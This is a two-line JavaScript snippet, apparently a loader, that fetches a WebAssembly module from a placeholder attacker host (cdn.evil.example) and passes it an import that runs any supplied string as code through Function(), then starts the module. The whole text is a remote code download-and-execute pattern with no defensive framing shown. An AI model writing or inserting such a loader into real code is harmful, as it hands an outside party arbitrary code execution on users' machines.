const { instance } = await WebAssembly.instantiateStreaming(fetch('https://cdn.evil.example/m.wasm'), { env: { run: (p) => Function(p)() } });
instance.exports.main();
